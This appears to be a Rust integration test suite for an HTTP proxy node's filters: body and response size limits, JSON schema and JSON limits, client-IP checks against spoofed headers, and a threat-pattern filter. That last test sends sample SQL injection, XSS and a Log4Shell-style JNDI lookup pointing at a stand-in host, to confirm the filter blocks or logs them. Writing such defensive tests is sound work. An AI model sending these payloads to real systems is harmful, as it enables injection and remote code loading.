//! Filters over what messages hold, through the whole node and with a client that nobody here wrote.

use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use crate::harness::upstream::Upstream;
use crate::harness::wire::Wire;
use crate::harness::{Folder, Node, wait_until};

/// What curl says: the status and, after a blank, how many bytes of the body came.
fn curl(args: &[&str]) -> Output {
    Command::new("curl")
        .args(["-sS", "-m", "120", "-w", "%{http_code} %{size_download}"])
        .args(args)
        .output()
        .expect("curl")
}

/// The status alone, of an answer whose body goes nowhere.
fn status(args: &[&str]) -> String {
    let said = curl(&[&["-o", "/dev/null"], args].concat());
    let text = String::from_utf8(said.stdout).expect("text");
    text.split(' ').next().unwrap_or_default().to_owned()
}

fn write(path: &Path, bytes: usize) {
    let mut file = std::fs::File::create(path).expect("a file");
    let block = [b'a'; 1 << 16];
    let mut left = bytes;
    while left > 0 {
        let now = left.min(block.len());
        file.write_all(&block[..now]).expect("room");
        left -= now;
    }
}

/// A node with a policy at /tested before this upstream.
fn node(upstream: &Upstream, filters: &str) -> (Folder, Node) {
    let folder = Folder::empty();
    folder.append("node.toml", &upstream.toml("up"));
    let proxy = "[[filter]]\nuse = \"proxy\"\nupstream = \"up\"\n";
    folder.write("policies/tested.toml", &format!("route = \"/tested/**\"\n{filters}\n{proxy}"));
    let node = Node::start(&folder);
    (folder, node)
}

const MIB: usize = 1 << 20;

#[test]
fn uploads_up_to_the_limit_stream_through_and_larger_ones_are_refused() {
    let received = Arc::new(AtomicU64::new(0));
    let counter = received.clone();
    let upstream = Upstream::start(move |incoming| {
        if incoming.all("transfer-encoding").is_empty() {
            counter.store(incoming.body().len() as u64, Ordering::SeqCst);
        } else {
            let mut all = 0;
            while let Some(chunk) = incoming.chunk() {
                all += chunk.len() as u64;
            }
            counter.store(all, Ordering::SeqCst);
        }
        incoming.answer("201 Created", &[], b"kept");
        false
    });
    let (folder, node) = node(&upstream, "[[filter]]\nuse = \"body-limit\"\nlimit = \"50MiB\"\n");
    let file = folder.at("upload");
    let path = file.to_str().expect("a path");
    let url = format!("http://{}/tested/upload", node.address);
    let chunked = ["-H", "Transfer-Encoding: chunked"];
    write(&file, 50 * MIB);
    for more in [&[][..], &chunked] {
        received.store(0, Ordering::SeqCst);
        assert_eq!(status(&[&["-T", path, &url], more].concat()), "201");
        assert_eq!(received.load(Ordering::SeqCst), 50 * MIB as u64);
    }
    write(&file, 50 * MIB + 1);
    // What says that it is larger is refused before the upstream hears of it.
    let before = upstream.heads().len();
    assert_eq!(status(&["-T", path, &url]), "413");
    assert_eq!(upstream.heads().len(), before);
    // What does not say is refused where it grows too large: the upstream never sees its end.
    received.store(0, Ordering::SeqCst);
    assert_eq!(status(&[&["-T", path, &url], &chunked[..]].concat()), "413");
    assert!(received.load(Ordering::SeqCst) <= 50 * MIB as u64);
    node.get("/tested/a").send().status(201);
}

#[test]
fn a_response_that_outgrows_its_limit_is_cut() {
    let upstream = Upstream::start(|incoming| {
        if incoming.lines[0].contains("declared") {
            incoming.answer("200 OK", &[], &vec![b'a'; 2_000_000]);
            return true;
        }
        incoming.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n");
        for _ in 0..20 {
            incoming.send(b"186A0\r\n");
            incoming.send(&[b'a'; 100_000]);
            incoming.send(b"\r\n");
        }
        incoming.send(b"0\r\n\r\n");
        true
    });
    let limit = "[[response]]\nuse = \"body-limit\"\nof = \"response\"\nlimit = \"1MB\"\n";
    let folder = Folder::empty();
    folder.append("node.toml", &upstream.toml("up"));
    let policy = format!("route = \"/tested/**\"\n[[filter]]\nuse = \"proxy\"\nupstream = \"up\"\n{limit}");
    folder.write("policies/tested.toml", &policy);
    let node = Node::start(&folder);
    let url = format!("http://{}/tested", node.address);
    assert_eq!(status(&[&format!("{url}/declared")]), "502");
    // 18: curl's word for a body that broke off (over HTTP/1.1; 92 over 2).
    let cut = curl(&["-o", "/dev/null", &format!("{url}/chunked")]);
    assert!(matches!(cut.status.code(), Some(18 | 56)), "{cut:?}: {}", node.log());
    node.get("/tested/declared").send().status(502);
}

#[test]
fn a_schema_that_changes_is_taken_up() {
    let upstream = Upstream::echo();
    let folder = Folder::empty();
    folder.append("node.toml", &upstream.toml("up"));
    folder.write("schemas/a.json", r#"{ "type": "object", "required": ["id"] }"#);
    let filters = "[[filter]]\nuse = \"json-schema\"\nfile = \"schemas/a.json\"\n[[filter]]\nuse = \"proxy\"\nupstream = \"up\"\n";
    folder.write("policies/tested.toml", &format!("route = \"POST /tested\"\n{filters}"));
    let node = Node::start(&folder);
    let send = |body: &str| node.post("/tested").header("Content-Type", "application/json").body(body).send();
    send("{\"id\":1}").status(200);
    let refused = send("{\"secret\":1}").status(400);
    assert_eq!(refused.json()["errors"][0]["pointer"], "#");
    assert!(!refused.text().contains("secret"), "{}", refused.text());
    folder.write("schemas/a.json", r#"{ "type": "object", "required": ["name"] }"#);
    wait_until("the schema is taken up", || send("{\"name\":1}").status == 200);
    send("{\"id\":1}").status(400);
    // One that is none is not: the last one that was holds.
    folder.write("schemas/a.json", "{");
    node.command(&["reload"]).code(1);
    send("{\"name\":1}").status(200);
}

#[test]
fn json_that_is_too_much_never_reaches_a_parser_or_an_upstream() {
    let upstream = Upstream::echo();
    let filters = "[[filter]]\nuse = \"json-limits\"\ndepth = 5\n[[filter]]\nuse = \"json-path\"\ninto = { a = \"$.a\" }\nrequired = false\n";
    let (_folder, node) = node(&upstream, filters);
    for body in [
        "[".repeat(1_000_000),
        "{\"a\":".repeat(150_000),
        format!("{{{}\"z\":1}}", (0..2_000).map(|at| format!("\"{at}\":1,")).collect::<String>()),
        format!("[{}1]", "1,".repeat(400_000)),
        format!("{{\"a\":{}}}", "9".repeat(900_000)),
        String::from("{\"a\":1,\"a\":2}"),
    ] {
        let answer = node.post("/tested/a").header("Content-Type", "application/json").body(body.as_str()).send();
        assert_eq!(answer.status, 400, "{:.20}", body);
    }
    assert_eq!(upstream.heads().len(), 0);
    node.post("/tested/a").body("{\"a\":[[1]]}").send().status(200);
}

#[test]
fn an_address_is_that_of_the_connection() {
    let upstream = Upstream::echo();
    let inside = "[[filter]]\nuse = \"auth.ip-address\"\nallow = [\"127.0.0.0/8\"]\n";
    let (folder, node) = node(&upstream, inside);
    node.get("/tested/a").send().status(200);
    folder.edit("policies/tested.toml", "127.0.0.0/8", "10.0.0.0/8");
    node.reload();
    for header in ["X-Forwarded-For", "X-Real-IP", "Forwarded", "Client-IP", "True-Client-IP"] {
        let value = if header == "Forwarded" { "for=10.0.0.1" } else { "10.0.0.1" };
        node.get("/tested/a").header(header, value).send().status(403);
    }
}

#[test]
fn what_looks_like_an_attack_is_refused_or_only_told() {
    let upstream = Upstream::echo();
    let patterns = "[[filter]]\nuse = \"threat-patterns\"\nsets = [\"sql-injection\", \"xss\", \"jndi\"]\n";
    let (folder, node) = node(&upstream, patterns);
    let url = format!("http://{}/tested/a", node.address);
    let attacks: &[&[&str]] = &[
        &["-G", "--data-urlencode", "q=1' OR '1'='1", &url],
        &["-G", "--data-urlencode", "q=<script>alert(1)</script>", &url],
        &["-H", "User-Agent: ${jndi:ldap://203.0.113.1/geheim}", &url],
        &["-b", "a=%3Cscript%3E", &url],
    ];
    for attack in attacks {
        assert_eq!(status(attack), "400", "{attack:?}");
    }
    assert_eq!(upstream.heads().len(), 0);
    assert_eq!(status(&["-G", "--data-urlencode", "q=O'Neil & sons", &url]), "200");
    folder.edit("policies/tested.toml", "sets = [", "mode = \"log\"\nsets = [");
    node.reload();
    for attack in attacks {
        assert_eq!(status(attack), "200", "{attack:?}");
    }
    wait_until("the log has it", || node.log().contains("looks like `jndi`"));
    assert!(!node.log().contains("geheim"), "{}", node.log());
}

/// A body that a filter reads, and a limit that is raised for it.
#[test]
fn a_limit_is_raised_for_filters_that_read() {
    let upstream = Upstream::echo();
    let folder = Folder::empty();
    folder.append("node.toml", &upstream.toml("up"));
    let policy = |limit: &str| {
        format!(
            "route = \"POST /tested\"\n{limit}[[filter]]\nuse = \"json-path\"\ninto = {{ a = \"$.a\" }}\n[[filter]]\nuse = \"respond\"\ntext = \"${{vars.a}}\"\n"
        )
    };
    folder.write("policies/tested.toml", &policy(""));
    let node = Node::start(&folder);
    let body = format!("{{\"a\":1,\"b\":\"{}\"}}", "x".repeat(3 * MIB));
    node.post("/tested").body(body.as_str()).send().status(413);
    folder.write("policies/tested.toml", &policy("[[filter]]\nuse = \"body-limit\"\nlimit = \"4MiB\"\n"));
    node.reload();
    assert_eq!(node.post("/tested").body(body.as_str()).send().status(200).text(), "1");
    // Chunked too, where nobody knows the length before the end.
    let mut wire = Wire::open(node.address);
    wire.send("POST /tested HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n");
    let chunk = format!("10000\r\n{}\r\n", "a".repeat(0x10000));
    for _ in 0..70 {
        if wire.try_send(&chunk).is_err() {
            break;
        }
    }
    let _ = wire.try_send("0\r\n\r\n");
    assert_eq!(wire.answer().map(|answer| answer.status), Some(413));
}
